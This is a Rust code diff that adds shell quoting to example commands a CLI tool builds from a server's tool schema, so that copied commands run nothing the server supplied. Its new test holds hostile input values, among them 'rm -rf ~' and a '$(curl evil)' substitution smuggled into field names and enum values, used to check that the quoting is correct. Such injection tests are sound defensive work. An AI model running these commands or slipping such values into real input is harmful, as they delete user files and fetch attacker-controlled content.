@@ -3,6 +3,7 @@
 use serde_json::Value;
 
 use crate::commands::terminal::{BOLD, DIM, TerminalPaint, harmless};
+use crate::shell_word::shell_word;
 
 /// Members of a tool's `annotations`, in words.
 const HINTS: [(&str, bool, &str); 4] = [
@@ -47,7 +48,8 @@ pub(super) fn of(tool: &Value, paint: TerminalPaint) -> String {
     let example: Vec<String> = arguments
         .iter()
         .filter(|(name, _)| required(name))
-        .map(|(name, property)| format!("{}={}", harmless(name), sample(property)))
+        // A server's words in a command that is copied into a shell.
+        .map(|(name, property)| harmless(&format!("{}={}", shell_word(name), shell_word(&sample(property)))))
         .collect();
     out.push_str(
         format!("\n{}\n  tidings call {name} {}", paint.styled(BOLD, "Call it"), example.join(" ")).trim_end(),
@@ -85,13 +87,13 @@ fn kind(property: &Value) -> String {
 /// A value that shows where the real one goes.
 fn sample(property: &Value) -> String {
     if let Some(first) = property["enum"].as_array().and_then(|choices| choices.first()) {
-        return first.as_str().map_or_else(|| first.to_string(), harmless);
+        return first.as_str().map_or_else(|| first.to_string(), str::to_owned);
     }
     match property["type"].as_str() {
         Some("number" | "integer") => "1",
         Some("boolean") => "true",
-        Some("array") => "'[]'",
-        Some("object") => "'{}'",
+        Some("array") => "[]",
+        Some("object") => "{}",
         _ => "TEXT",
     }
     .to_owned()
@@ -124,5 +126,17 @@ mod tests {
         ] {
             assert!(shown.contains(words), "{words:?} is missing:\n{shown}");
         }
+    }
+
+    // trust T9
+    #[test]
+    fn an_example_runs_nothing_of_the_servers_when_it_is_copied() {
+        let tool = json!({"name": "a__b", "server": "a", "inputSchema": {"required": ["x; rm -rf ~", "y"], "properties": {
+            "x; rm -rf ~": {"type": "array"}, "y": {"enum": ["$(curl evil)'; id #"]},
+        }}});
+        let shown = of(&tool, TerminalPaint { colours: false, width: Some(80) });
+        let command = shown.lines().find(|line| line.contains("tidings call")).expect("an example");
+        let words = r#"tidings call a__b 'x; rm -rf ~'='[]' y='$(curl evil)'\''; id #'"#;
+        assert_eq!(command.trim(), words);
     }
 }
